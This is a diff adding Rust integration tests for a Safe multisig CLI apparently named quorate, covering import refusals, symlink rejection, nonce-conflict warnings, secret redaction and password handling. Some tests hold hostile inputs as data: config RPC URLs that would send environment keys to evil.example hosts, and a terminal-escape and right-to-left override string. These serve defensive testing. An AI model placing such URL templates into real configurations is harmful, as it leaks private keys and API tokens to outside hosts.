@@ -115,6 +115,82 @@ fn copies_that_went_different_ways_come_together() {
 }
 
 #[test]
+fn when_a_file_is_refused_it_is_said_which_were_taken_over() {
+    let world = World::new();
+    world.put("good.json", &proposal(7).to_json());
+    world.put("bad.json", "{}");
+    world.put("later.json", &proposal(8).to_json());
+    let run = world.run(&["import", "good.json", "bad.json", "later.json", "--json"]);
+    assert_eq!((run.exit, run.code()), (3, "bad_proposal".to_owned()));
+    let envelope: Value = serde_json::from_str(&run.stdout).unwrap();
+    let hint = envelope["errors"][0]["hint"].as_str().unwrap();
+    assert!(hint.contains("taken over before: good.json; not looked at: later.json"), "{hint}");
+    assert_eq!(envelope["data"]["imported"][0]["safe_tx_hash"], proposal(7).hash().to_string());
+    assert_eq!(world.json(&["list", "--json"])["data"]["proposals"].as_array().unwrap().len(), 1);
+}
+
+#[test]
+fn claims_that_only_the_chain_can_decide_between_are_not_dropped() {
+    let world = World::new();
+    let claim = |byte| Signature::Contract { owner: world::APPROVER, data: vec![byte; 65].into() };
+    let (mut one, mut two) = (proposal(7), proposal(7));
+    one.sign(claim(1)).unwrap();
+    two.sign(claim(2)).unwrap();
+    two.sign(world::signature(&two)).unwrap();
+    world.put("one.json", &one.to_json());
+    world.put("two.json", &two.to_json());
+    assert_eq!(world.run(&["import", "one.json"]).exit, 0);
+    let run = world.run(&["import", "two.json", "--json"]);
+    assert_eq!((run.exit, run.code()), (3, "refused".to_owned()), "{run:?}");
+    assert!(run.stdout.contains("quorate import two.json --rpc-url URL"), "{run:?}");
+    let exported = world.run(&["export", "7"]);
+    assert_eq!(Proposal::from_json(exported.stdout.as_bytes()).unwrap(), one, "nothing of the file was taken over");
+}
+
+#[test]
+fn a_link_in_the_mailbox_is_refused_at_once() {
+    let world = World::new();
+    world.put("p.json", &proposal(7).to_json());
+    let imported = world.json(&["import", "p.json", "--json"]);
+    let file = world.path(imported["data"]["imported"][0]["file"].as_str().unwrap());
+    fs::remove_file(&file).unwrap();
+    for target in ["nowhere", "/dev/zero"] {
+        std::os::unix::fs::symlink(target, &file).unwrap();
+        let run = world.run(&["import", "p.json", "--json"]);
+        assert_eq!((run.exit, run.code()), (3, "bad_proposal".to_owned()), "{run:?}");
+        fs::remove_file(&file).unwrap();
+    }
+    let directory = file.parent().unwrap();
+    fs::rename(directory, world.path("elsewhere")).unwrap();
+    std::os::unix::fs::symlink(world.path("elsewhere"), directory).unwrap();
+    let run = world.run(&["import", "p.json", "--json"]);
+    assert_eq!((run.exit, run.code()), (3, "bad_proposal".to_owned()), "{run:?}");
+    assert_eq!(fs::read_dir(world.path("elsewhere")).unwrap().count(), 0);
+}
+
+#[test]
+fn an_owner_is_warned_of_another_transaction_with_the_nonce_that_it_signed() {
+    let world = World::new();
+    let mut other = Proposal::new(
+        *proposal(7).domain(),
+        quorate_core::SafeTx::cancellation(world::SAFE, proposal(7).tx().nonce),
+        "",
+    )
+    .unwrap();
+    other.attach(evidence()).unwrap();
+    world.put("one.json", &proposal(7).to_json());
+    world.put("two.json", &other.to_json());
+    assert_eq!(world.run(&["import", "one.json", "two.json"]).exit, 0);
+    let (one, two) = (proposal(7).hash().to_string(), other.hash().to_string());
+    let sign = |name: &str| world.run(&["sign", name, "--keystore", "key", "--password-file", "password", "--yes"]);
+    let warning = "you have signed another transaction with this nonce: ";
+    assert!(!sign(&one).stderr.contains(warning));
+    assert!(!sign(&one).stderr.contains(warning), "it is no rival of itself");
+    let run = sign(&two);
+    assert!(run.exit == 0 && run.stderr.contains(&format!("{warning}{one}; only one of them can run")), "{run:?}");
+}
+
+#[test]
 fn a_signature_of_a_stranger_is_not_imported() {
     let world = World::new();
     let mut bad = proposal(7);
@@ -189,7 +265,7 @@ fn what_a_file_says_cannot_steer_the_terminal() {
     world.put("p.json", &hostile.to_json());
     let run = world.run(&["show", "p.json"]);
     assert_eq!(run.exit, 0);
-    assert!(run.stdout.contains(r"rent\u{1b}[2J\u{202e}\u{a}to 0xevil"), "{}", run.stdout);
+    assert!(run.stdout.contains(r"rent\u{1b}[2J\u{202e} to 0xevil"), "{}", run.stdout);
     for text in
         [&run.stdout, &world.run(&["export", "p.json"]).stdout, &world.run(&["show", "p.json", "--json"]).stdout]
     {
@@ -251,10 +327,15 @@ fn a_url_with_a_key_in_it_is_never_printed() {
     let run = world.run(&["safe", "info", "--safe", safe, "--rpc-url", url, "--rpc-timeout", "1", "-v"]);
     assert_eq!(run.exit, 5, "{run:?}");
     assert!(!run.stderr.contains("topsecret") && run.stderr.contains("127.0.0.1"), "{}", run.stderr);
-    world.put("quorate.toml", "[chains.local]\nchain_id = 31337\nrpc = \"http://127.0.0.1:1/${KEY}\"\n");
-    let run = world.run_with(&[("KEY", "topsecretkey")], &["safe", "info", "--safe", safe, "--rpc-timeout", "1"]);
-    assert_eq!(run.exit, 5, "{run:?}");
-    assert!(!run.stderr.contains("topsecret"));
+    world.put("quorate.toml", "[chains.local]\nchain_id = 31337\nrpc = \"http://127.0.0.1:1/${NODE_API_KEY}\"\n");
+    for quiet in ["-v", "--quiet", "--json"] {
+        let arguments = ["safe", "info", "--safe", safe, "--rpc-timeout", "1", quiet];
+        let run = world.run_with(&[("NODE_API_KEY", "topsecretkey")], &arguments);
+        assert_eq!(run.exit, 5, "{run:?}");
+        assert!(!run.stderr.contains("topsecret") && !run.stdout.contains("topsecret"), "{run:?}");
+        let told = run.stderr.matches("quorate.toml sends $NODE_API_KEY to http://127.0.0.1:1\n").count();
+        assert_eq!(told, 1, "{run:?}");
+    }
     let run = world.run(&["safe", "info", "--safe", safe, "--json"]);
     assert_eq!((run.exit, run.code()), (2, "config".to_owned()));
 }
@@ -299,4 +380,109 @@ fn the_reference_in_the_repository_is_that_of_the_program() {
     let docs = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs");
     let run = world.run(&["docs", "--dir", docs, "--check"]);
     assert_eq!(run.exit, 0, "{run:?}");
+}
+
+#[test]
+fn a_settings_file_does_not_send_what_the_environment_holds_for_others() {
+    let world = World::new();
+    let key = "3".repeat(64);
+    for (rpc, variable, value) in [
+        ("https://evil.example/${OWNER_KEY}", "OWNER_KEY", key.as_str()),
+        ("https://evil.example/${OWNER_API_KEY}", "OWNER_API_KEY", &key),
+        ("http://evil.example/${NODE_API_KEY}", "NODE_API_KEY", "topsecret"),
+        ("https://${NODE_API_KEY}.evil.example/", "NODE_API_KEY", "topsecret"),
+    ] {
+        world.put("quorate.toml", &format!("[chains.local]\nchain_id = 31337\nrpc = \"{rpc}\"\n"));
+        let run = world.run_with(
+            &[(variable, value)],
+            &["safe", "info", "--safe", "local:0x41675C099F32341bf84BFc5382aF534df5C7461a", "--json"],
+        );
+        assert_eq!((run.exit, run.code()), (2, "config".to_owned()), "{run:?}");
+        assert!(!run.stdout.contains(value) && !run.stderr.contains(value), "{run:?}");
+    }
+}
+
+#[test]
+fn evidence_of_another_release_than_the_settings_pin_is_refused() {
+    let world = World::new();
+    let pin = |chain_id: u64, version: &str| {
+        let safe = world::SAFE;
+        world.put(
+            "quorate.toml",
+            &format!(
+                "[chains.local]\nchain_id = {chain_id}\n[safes.it]\nchain = \"local\"\naddress = \"{safe}\"\n\
+                 version = \"{version}\"\n"
+            ),
+        );
+    };
+    let signature = hex::encode_prefixed(world::signature(&proposal(7)).to_bytes());
+    let commands = [
+        &["show", "p.json", "--json"][..],
+        &["sign", "p.json", "--keystore", "key", "--password-file", "password", "--yes", "--json"],
+        &["add-signature", "p.json", &signature, "--json"],
+    ];
+    for command in commands {
+        world.put("p.json", &proposal(7).to_json());
+        pin(31_337, "1.4.1");
+        let run = world.run(command);
+        assert_eq!((run.exit, run.code()), (3, "wrong_contract".to_owned()), "{run:?}");
+        for (chain_id, version) in [(31_337, "1.5.0"), (5, "1.4.1")] {
+            pin(chain_id, version);
+            assert_eq!(world.run(command).exit, 0, "{command:?}");
+        }
+    }
+}
+
+#[test]
+fn a_key_in_a_wrong_place_is_not_repeated() {
+    let world = World::new();
+    let digits = "ac".repeat(32);
+    for key in [digits.clone(), format!("0x{digits}")] {
+        for arguments in [
+            &["key", "import", "zed", &key][..],
+            &["key", "import", &key],
+            &["key", "import", "zed", "--private-key-env", &key],
+            &["key", "address", "--private-key-env", &key],
+            &["key", "address", "--account", &key],
+            &["key", "address", "--no-such-option", &key],
+            &["key", "address", &format!("--private-key-env-is={key}")],
+        ] {
+            for json in [&[][..], &["--json"]] {
+                let run = world.run_with_stdin("", &[arguments, json].concat());
+                assert_eq!(run.exit, 2, "{arguments:?}: {run:?}");
+                assert!(!run.stdout.contains(&digits) && !run.stderr.contains(&digits), "{arguments:?}: {run:?}");
+            }
+        }
+    }
+    let run = world.run(&["key", "import", "zed", &digits]);
+    assert!(run.stderr.contains("unexpected argument '***'"), "{run:?}");
+}
+
+#[test]
+fn an_address_that_only_the_file_states_is_said_to_be_so() {
+    let world = World::new();
+    let made = ["key", "new", "alice", "--keystore-dir", "keys", "--password-file", "password"];
+    assert_eq!(world.run(&made).exit, 0);
+    let key = ["key", "address", "--account", "alice", "--keystore-dir", "keys", "--password-file", "password"];
+    let run = world.run(&key);
+    assert!(run.exit == 0 && run.stderr.contains("stated by the file, not verified: --verify"), "{run:?}");
+    let run = world.run(&[&key[..], &["--verify"]].concat());
+    assert!(run.exit == 0 && run.stderr.is_empty(), "{run:?}");
+    fs::copy(world.path("keys/alice"), world.path("keys/bob")).unwrap();
+    let run = world.run(&["key", "list", "--keystore-dir", "keys"]);
+    assert_eq!(run.stderr.matches("not verified").count(), 1, "{run:?}");
+}
+
+#[test]
+fn a_password_comes_through_a_pipe() {
+    let world = World::new();
+    let key = ["key", "address", "--keystore", "key", "--password-file", "/dev/stdin"];
+    let run = world.run_with_stdin("pw\n", &key);
+    assert_eq!((run.exit, run.stdout.trim()), (0, OWNER.to_string().as_str()), "{run:?}");
+    let run = world.run_with_stdin(&"x".repeat(100_000), &key);
+    assert!(run.exit == 2 && run.stderr.contains("at most 65536"), "{run:?}");
+    for other in ["/dev/zero", "/"] {
+        let run = world.run(&["key", "address", "--keystore", "key", "--password-file", other]);
+        assert!(run.exit == 2 && run.stderr.contains("not a regular file"), "{run:?}");
+    }
 }
